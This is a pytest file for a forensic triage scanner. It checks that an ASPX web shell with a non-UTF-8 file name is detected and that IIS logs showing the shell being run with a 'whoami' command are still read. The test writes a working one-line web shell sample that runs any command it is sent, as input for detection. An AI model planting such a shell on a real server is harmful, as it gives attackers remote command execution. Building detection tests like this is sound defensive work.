"""A web shell whose file name is not valid UTF-8 is still examined, and the pivot that looks its
name up in the logs reads every log (the name's stray byte must not make a log unreadable)."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from extriage.findings import Outcome
from extriage.scan.context import ScanOptions
from extriage.scan.pipeline import run_scan

SHELL = b'<%@ Page Language="C#" %><% System.Diagnostics.Process.Start(Request["c"]); %>'
IIS_HEADER = (
    "#Software: Microsoft Internet Information Services 10.0\n#Version: 1.0\n#Date: 2021-03-03 00:00:00\n"
    "#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) "
    "cs(Referer) sc-status sc-substatus sc-win32-status time-taken\n"
)


@pytest.mark.skipif(os.name == "nt", reason="POSIX file names can hold any byte")
def test_shell_with_a_non_utf8_name_is_found_and_every_log_read(tmp_path: Path) -> None:
    web = tmp_path / "C" / "inetpub" / "wwwroot" / "aspnet_client"
    web.mkdir(parents=True)
    with open(os.fsencode(web) + b"/sh\xffell.aspx", "wb") as fh:
        fh.write(SHELL)
    logs = tmp_path / "C" / "inetpub" / "logs" / "LogFiles" / "W3SVC1"
    logs.mkdir(parents=True)
    (logs / "u_ex210303.log").write_text(
        IIS_HEADER + "2021-03-03 10:00:00 10.0.0.5 GET /aspnet_client/sh%FFell.aspx c=whoami 443 - "
        "203.0.113.9 curl/7.68.0 - 200 0 0 15\n",
        encoding="ascii",
    )
    result = run_scan(tmp_path, ScanOptions())
    unread = [s for s in result.coverage.skipped if not s.path.endswith("extriage-generated.json")]
    assert unread == [], unread
    shell = [f for f in result.findings if f.rule_id.startswith("WF-") and "sh\udcffell.aspx" in f.title]
    assert shell, [f.rule_id for f in result.findings]
    assert shell[0].outcome is Outcome.WEBSHELL
